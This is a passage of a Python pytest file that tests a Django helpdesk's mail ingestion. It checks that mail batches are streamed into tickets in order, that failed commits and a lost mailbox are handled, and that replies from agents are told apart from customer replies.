    def leer():
        for n, raws in enumerate(lotes, 1):
            eventos.append(("leido", n))
            yield ingest_module.Lote(raws)

    return contextlib.closing(ingest_module.ingest_flujo(leer(), **kwargs))


@pytest.fixture
def hilos_de_guardado(monkeypatch):
    """The names of the threads the batches were stored in, in order."""
    nombres = []
    guardar = ingest_module._guardar_piezas

    def espia(piezas, **kwargs):
        nombres.append(threading.current_thread().name)
        return guardar(piezas, **kwargs)

    monkeypatch.setattr(ingest_module, "_guardar_piezas", espia)
    return nombres


@pytest.mark.django_db(transaction=True)
def test_it_streams_batches_in_order_each_committed_before_it_comes_back(
    soporte, hilos_de_guardado
):
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="s@example.com", departamento=soporte
    )
    primero, respuesta = mid(), mid()
    lotes = [
        [correo("Uno", message_id=primero), correo("Dos")],
        # A reply to a mail of the batch before, and a reply to that reply.
        [correo("Re: Uno", message_id=respuesta, in_reply_to=primero), correo("Tres")],
        [correo("Re: Re: Uno", in_reply_to=respuesta), correo("Cuatro")],
    ]
    eventos, vistos = [], []

    with _flujo(lotes, eventos, cuenta=cuenta) as flujo:
        for n, (lote, resultados) in enumerate(flujo, 1):
            eventos.append(("entregado", n))
            # Outside any transaction, this batch and the ones before are committed (the next
            # one may be too).
            vistos.append((connection.in_atomic_block, DetalleTicket.objects.count() >= 2 * n))
            assert lote.raws == lotes[n - 1]
            assert [r.detalle.asunto for r in resultados] == [
                email.message_from_bytes(raw)["Subject"] for raw in lotes[n - 1]
            ]

    # Each batch is read (and parsed) while the one before is stored.
    assert eventos == [
        ("leido", 1),
        ("leido", 2),
        ("entregado", 1),
        ("leido", 3),
        ("entregado", 2),
        ("entregado", 3),
    ]
    assert vistos == [(False, True)] * 3
    tickets = list(Ticket.objects.order_by("numero").values_list("asunto", flat=True))
    assert tickets == ["Uno", "Dos", "Tres", "Cuatro"]  # numbered in the stream's order
    uno = Ticket.objects.get(asunto="Uno")
    assert list(uno.detalles.order_by("id").values_list("asunto", flat=True)) == [
        "Uno",
        "Re: Uno",
        "Re: Re: Uno",
    ]
    if connection.vendor == "postgresql":  # stored in a thread of its own
        assert set(hilos_de_guardado) == {"ingest-lotes_0"}
    assert not [t for t in threading.enumerate() if t.name.startswith("ingest-lotes")]


def test_it_stores_the_stream_in_the_calling_thread_inside_its_transaction(
    soporte, hilos_de_guardado
):
    """The test's transaction holds rows another thread could not see: the batches are stored
    here, one after the other, with the same results."""
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="s@example.com", departamento=soporte
    )
    primero = mid()
    lotes = [[correo("Uno", message_id=primero)], [correo("Re: Uno", in_reply_to=primero)]]

    with _flujo(lotes, [], cuenta=cuenta) as flujo:
        resultados = [r for _, lote in flujo for r in lote]

    assert [r.creado for r in resultados] == [True, False]
    assert resultados[1].ticket.pk == resultados[0].ticket.pk
    assert set(hilos_de_guardado) == {threading.current_thread().name}


@pytest.mark.django_db(transaction=True)
def test_it_gives_back_nothing_of_a_batch_whose_commit_fails_and_stores_none_after_it(
    soporte, monkeypatch
):
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="s@example.com", departamento=soporte
    )
    lotes = [[correo("Uno"), correo("Dos")], [correo("Tres")], [correo("Cuatro")]]
    llamadas = []
    guardar = DetalleTicket.objects.bulk_create

    def caida_en_el_segundo(objs, *args, **kwargs):
        llamadas.append(len(objs))
        if len(llamadas) == 2:
            raise OperationalError("server closed the connection unexpectedly")
        return guardar(objs, *args, **kwargs)

    monkeypatch.setattr("incidencias.ingest.DetalleTicket.objects.bulk_create", caida_en_el_segundo)
    monkeypatch.setattr("incidencias.ingest._base_disponible", lambda: False)
    eventos, entregados = [], []

    with pytest.raises(OperationalError), _flujo(lotes, eventos, cuenta=cuenta) as flujo:
        for _, resultados in flujo:
            entregados.append([r.detalle.asunto for r in resultados])

    assert entregados == [["Uno", "Dos"]]
    assert sorted(Ticket.objects.values_list("asunto", flat=True)) == ["Dos", "Uno"]
    assert not CorreoFallido.objects.exists()  # the database failed, not the mail
    assert llamadas == [2, 1]  # the third batch was read, never stored
    assert not [t for t in threading.enumerate() if t.name.startswith("ingest-lotes")]


@pytest.mark.django_db(transaction=True)
def test_it_gives_back_the_batch_being_stored_before_a_failure_of_the_source(soporte):
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="s@example.com", departamento=soporte
    )

    def leer():
        yield ingest_module.Lote([correo("Uno")])
        raise ConnectionError("the mailbox went away")

    entregados = []
    flujo = contextlib.closing(ingest_module.ingest_flujo(leer(), cuenta=cuenta))
    with pytest.raises(ConnectionError), flujo as lotes:
        for _, resultados in lotes:
            entregados += [r.detalle.asunto for r in resultados]

    assert entregados == ["Uno"]
    assert Ticket.objects.get().asunto == "Uno"


@pytest.mark.django_db(transaction=True)
def test_it_finishes_the_batch_being_stored_when_the_caller_stops(soporte):
    """A caller that stops after a batch (its server step failed) leaves nothing running:
    the batch already being stored is committed, unseen (deduplication makes reading it again
    harmless), and no batch after it is read."""
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="s@example.com", departamento=soporte
    )
    lotes = [[correo("Uno")], [correo("Dos")], [correo("Tres")]]
    eventos = []

    with _flujo(lotes, eventos, cuenta=cuenta) as flujo:
        for _ in flujo:
            break

    assert eventos == [("leido", 1), ("leido", 2)]
    assert sorted(Ticket.objects.values_list("asunto", flat=True)) == ["Dos", "Uno"]
    assert not [t for t in threading.enumerate() if t.name.startswith("ingest-lotes")]


@pytest.mark.django_db(transaction=True)
def test_it_keeps_a_mail_that_fails_in_one_batch_and_streams_the_others(soporte, monkeypatch):
    cuenta = CuentaCorreo.objects.create(
        host="imap.example.com", user="s@example.com", departamento=soporte
    )
    parse = ingest_module.parse_raw

    def ilegible(raw, **kwargs):
        if b"Ilegible" in raw:
            raise ValueError("unreadable")
        return parse(raw, **kwargs)

    monkeypatch.setattr("incidencias.ingest.parse_raw", ilegible)
    lotes = [[correo("Uno")], [correo("Ilegible"), correo("Dos")], [correo("Tres")]]

    with _flujo(lotes, [], cuenta=cuenta) as flujo:
        resultados = [
            [(r.fallido is not None, r.ticket and r.ticket.asunto) for r in lote]
            for _, lote in flujo
        ]

    assert resultados == [
        [(False, "Uno")],
        [(True, None), (False, "Dos")],
        [(False, "Tres")],
    ]
    assert CorreoFallido.objects.get().error == "ValueError: unreadable"


def test_an_agents_mail_on_a_ticket_is_our_reply_and_its_first_response(
    db, soporte, cuenta_soporte
):
    Usuario.objects.filter(pk=agente("luis", soporte).pk).update(email="Luis@Example.com")
    primero = mid()
    ticket = entrante(correo(message_id=primero), cuenta=cuenta_soporte).ticket
    Ticket.objects.filter(pk=ticket.pk).update(estado=Ticket.Estado.EN_ESPERA)

    respuesta = entrante(
        correo("Re: No puedo entrar", de="Luis <luis@example.com>", in_reply_to=primero),
        cuenta=cuenta_soporte,
    )
    cliente = entrante(correo("Re: No puedo entrar", in_reply_to=primero), cuenta=cuenta_soporte)

    ticket.refresh_from_db()
    assert respuesta.ticket.pk == ticket.pk and respuesta.detalle.tipo == "respuesta"
    assert respuesta.detalle.autor.username == "luis"
    assert ticket.primera_respuesta_en is not None
    # The agent's mail did not reopen it; the customer's answer did.
    assert cliente.detalle.tipo == "entrante" and ticket.estado == Ticket.Estado.ABIERTO
    assert not Notificacion.objects.filter(detalle=respuesta.detalle).exists()


def test_mail_from_someone_without_ticket_access_stays_a_customer_reply(
    db, soporte, cuenta_soporte
):
    agente("vendedor", soporte, acceso_ticket=False)
    primero = mid()
    ticket = entrante(correo(message_id=primero), cuenta=cuenta_soporte).ticket

    respuesta = entrante(
        correo("Re: x", de="vendedor@example.com", in_reply_to=primero), cuenta=cuenta_soporte
    )

    ticket.refresh_from_db()
    assert respuesta.detalle.tipo == "entrante" and ticket.primera_respuesta_en is None
